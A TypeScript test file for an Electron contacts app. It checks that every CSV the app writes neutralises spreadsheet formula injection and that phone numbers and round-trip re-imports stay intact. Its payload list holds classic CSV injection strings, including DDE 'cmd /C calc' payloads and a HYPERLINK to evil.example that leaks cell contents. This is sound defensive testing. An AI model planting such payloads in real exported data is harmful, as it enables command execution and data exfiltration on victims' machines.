// Issue 12, item 13: no CSV the app writes (contacts export, Restore-tab export, rows not imported) may
// hold a cell a spreadsheet would evaluate, header row included; genuine phone numbers in the phone
// column stay as they are, and an export re-imports with the values it came from.
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import type { BulkAction, Contact, Page } from '../../../shared/domain.ts';
import { neutralizeFormula, unneutralize } from '../../../electron/core/csv/formula.ts';
import { writeCsv } from '../../../electron/core/csv/writeCsv.ts';
import { fakeClock, testCore } from '../../helpers/core.ts';

type T = Awaited<ReturnType<typeof testCore>>;
let t: T;
afterEach(() => t?.cleanup());

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

/** What Excel, LibreOffice, Google Sheets or Numbers would evaluate: written independently of the code under test. */
const EVALUATED = /^[ \u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

// The tester's payloads first, then the classic ones from the OWASP list and their variants.
const PAYLOADS = [
  "+1+cmd|' /C calc'!A0",
  '-2+3+HYPERLINK("http://x","y")',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C notepad'!'A1'",
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '+HYPERLINK("http://x")',
  '-cmd',
  '-5',
  '+5',
  '+1',
  '  =1+1',
  ' @x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '\uff0b1+cmd',
  '\uff0d1+cmd',
  '\uff20SUM(A1)',
  '\u3000=1',
  "'=already quoted",
];

/** Every cell of a CSV, header included, as a spreadsheet reads it (no trimming). */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

/** The cells a spreadsheet would evaluate; the phone column's genuine numbers are allowed through. */
function evaluatedCells(csv: string, phoneHeader = 'phone') {
  const [header, ...rows] = cellsOf(csv);
  const phone = header!.findIndex((h) => h.toLowerCase() === phoneHeader.toLowerCase());
  return [header!, ...rows].flatMap((row, r) =>
    row.filter((cell, i) => EVALUATED.test(cell) && !(r > 0 && i === phone && /^\+[\d ]+$/.test(cell))),
  );
}

describe('neutralizeFormula', () => {
  it.each(PAYLOADS)('makes %j text for every spreadsheet, and unneutralize gives it back', (payload) => {
    const out = neutralizeFormula(payload);
    expect(out).toBe(`'${payload}`);
    expect(unneutralize(out)).toBe(payload);
  });

  it.each(['Ann', 'ann@x.com', '(555) 0199', '555 0100', '2026-01-15T12:00:00.000Z', '[{"body":"=x"}]', "O'Neil", ''])(
    'leaves %j as it is',
    (value) => {
      expect(neutralizeFormula(value)).toBe(value);
      expect(neutralizeFormula(value, true)).toBe(value);
      expect(unneutralize(value)).toBe(value);
    },
  );

  it.each(['+1 555 0100', '+1 (555) 010-0100', '+44 20 7946 0958', '+33 1.23.45.67.89', '+1 555 0100 x12', '+1-555-0100 ext. 7', '+49 (0)30 1234567'])(
    'keeps the genuine phone number %j in the phone column only',
    (phone) => {
      expect(neutralizeFormula(phone, true)).toBe(phone);
      expect(neutralizeFormula(phone)).toBe(`'${phone}`);
    },
  );

  it.each(["+1+cmd|' /C calc'!A0", '-2+3+HYPERLINK("http://x","y")', '-555 0100', '+1+2', '+1 555 0100 x12+1', '+ 1', '+=1', '\uff0b1 555 0100'])(
    'neutralises %j even in the phone column',
    (value) => {
      expect(neutralizeFormula(value, true)).toBe(`'${value}`);
    },
  );

  it('neutralises the header row too', () => {
    const csv = writeCsv(['=HYPERLINK("http://x","y")', 'phone'], [['a', '+1 555 0100']]);
    expect(cellsOf(csv)).toEqual([
      [`'=HYPERLINK("http://x","y")`, 'phone'],
      ['a', '+1 555 0100'],
    ]);
  });
});

describe('every CSV the app writes', () => {
  async function seedHostile() {
    const made: Contact[] = [];
    for (const [i, payload] of PAYLOADS.entries()) {
      made.push(
        await t.call<Contact>('contacts.create', {
          firstName: payload.trim() || 'x',
          lastName: `L${i}`,
          company: payload.trim() || 'x',
          source: payload.trim() || 'x',
          tags: [`t${i}`],
        }),
      );
    }
    // The phone column: formulas the phone field's own rule lets in, and genuine numbers.
    made.push(await t.call<Contact>('contacts.create', { firstName: 'P1', phone: '+1+2' }));
    made.push(await t.call<Contact>('contacts.create', { firstName: 'P2', phone: '-2-3' }));
    made.push(await t.call<Contact>('contacts.create', { firstName: 'P3', phone: '+1 555 0100' }));
    return made;
  }

  it('contacts.export: no cell a spreadsheet would evaluate, genuine phones as they are', async () => {
    t = await testCore({ now: fakeClock() });
    await seedHostile();
    const out = await t.call<{ csv: string; count: number }>('contacts.export', { filter: {} });
    expect(out.count).toBe(PAYLOADS.length + 3);
    expect(evaluatedCells(out.csv)).toEqual([]);
    const rows = cellsOf(out.csv);
    const phones = rows.slice(1).map((r) => r[4]).filter(Boolean).sort();
    expect(phones).toEqual(["'+1+2", "'-2-3", '+1 555 0100']);
    const firstNames = new Set(rows.slice(1).map((r) => r[1]));
    expect(firstNames.has(`'+1+cmd|' /C calc'!A0`)).toBe(true);
    expect(firstNames.has(`'-2+3+HYPERLINK("http://x","y")`)).toBe(true);
  });

  it('restore.export: no cell a spreadsheet would evaluate', async () => {
    t = await testCore({ now: fakeClock() });
    const made = await seedHostile();
    for (const c of made) await t.call('contacts.deleteOne', { id: c.id });
    const out = await t.call<{ csv: string; count: number }>('restore.export', { ids: made.map((c) => c.id) });
    expect(out.count).toBe(made.length);
    expect(evaluatedCells(out.csv)).toEqual([]);
  });

  it('import.errors: neither the header row from the user file nor its cells can be evaluated', async () => {
    t = await testCore({ now: fakeClock() });
    const header = ['Email', '=HYPERLINK("http://x","y")', "+1+cmd|' /C calc'!A0", 'Phone'];
    const lines = [
      Papa.unparse([header]),
      ...PAYLOADS.map((p, i) => Papa.unparse([[`bad-${i}`, p, p, '+1 555 0100']])),
      Papa.unparse([['ok@x.com', 'a', 'b', '+1 555 0199']]),
    ];
    const { bulkActionId } = await t.call<{ bulkActionId: string }>('import.start', {
      fileName: 'hostile.csv',
      contentBase64: b64(lines.join('\n')),
      mapping: { email: 0 },
      onDuplicate: 'skip',
    });
    t.core.runner.start();
    await t.core.runner.idle();
    const errors = await t.call<{ csv: string; count: number }>('import.errors', { id: bulkActionId });
    expect(errors.count).toBe(PAYLOADS.length);
    expect(evaluatedCells(errors.csv, 'Phone')).toEqual([]);
    const [head, first] = cellsOf(errors.csv);
    expect(head).toEqual(['line', 'reason', 'Email', `'=HYPERLINK("http://x","y")`, `'+1+cmd|' /C calc'!A0`, 'Phone']);
    expect(first).toEqual(['2', 'email must be a valid email address', 'bad-0', `'${PAYLOADS[0]}`, `'${PAYLOADS[0]}`, '+1 555 0100']);
  });
});

describe('round trip', () => {
  it('an export re-imports with the same names and phone numbers, formula-like ones included', async () => {
    t = await testCore({ now: fakeClock() });
    const phones = ['+1 555 0100', '+1 (555) 010-0199', '+44 20 7946 0958', '(555) 0123', '555.0145', '+33 1.23.45.67.89', '+1 555 0177 x12', '+1+2'];
    const names = ['=Ann', '+Bo', '-Cy', '@Di', "'=Ed", 'Flo', 'Gus', 'Hal'];
    for (const [i, phone] of phones.entries()) {
      await t.call('contacts.create', { firstName: names[i], lastName: 'Round', email: `r${i}@x.com`, phone });
    }
    const exported = await t.call<{ csv: string }>('contacts.export', { filter: {}, sort: 'email' });
    const before = (await t.call<Page<Contact>>('contacts.list', { sort: 'email', limit: 100 })).rows;
    await t.call('contacts.delete', { ids: before.map((c) => c.id) });
    t.core.runner.start();
    await t.core.runner.idle();
    expect((await t.call<Page<Contact>>('contacts.list', { limit: 1 })).total).toBe(0);

    const preview = await t.call<{ mapping: Record<string, number>; validRows: number }>('import.preview', {
      fileName: 'export.csv',
      contentBase64: b64(exported.csv),
    });
    expect(preview.validRows).toBe(phones.length);
    const { bulkActionId } = await t.call<{ bulkActionId: string }>('import.start', {
      fileName: 'export.csv',
      contentBase64: b64(exported.csv),
      mapping: preview.mapping,
      onDuplicate: 'skip',
    });
    await t.core.runner.idle();
    expect(await t.call<BulkAction>('bulkActions.get', { id: bulkActionId })).toMatchObject({ status: 'complete', skipped: 0 });
    const after = (await t.call<Page<Contact>>('contacts.list', { sort: 'email', limit: 100 })).rows;
    expect(after.map((c) => [c.firstName, c.email, c.phone])).toEqual(before.map((c) => [c.firstName, c.email, c.phone]));
    expect(after.map((c) => c.phone)).toEqual(phones);
  });
});

describe('several phone columns (issue 13)', () => {
  it('every phone column of a file keeps genuine numbers as they are; a formula in any column is text', () => {
    const csv = writeCsv(['line', 'reason', 'E-mail Address', 'Business Phone', 'Mobile Phone', 'Notes'], [[3, 'x', '=cmd', '+1 555 0100', '+44 20 7946 0000', '+SUM(1)']]);
    expect(csv.split('\r\n')[1]).toBe("3,x,'=cmd,+1 555 0100,+44 20 7946 0000,'+SUM(1)");
  });
});
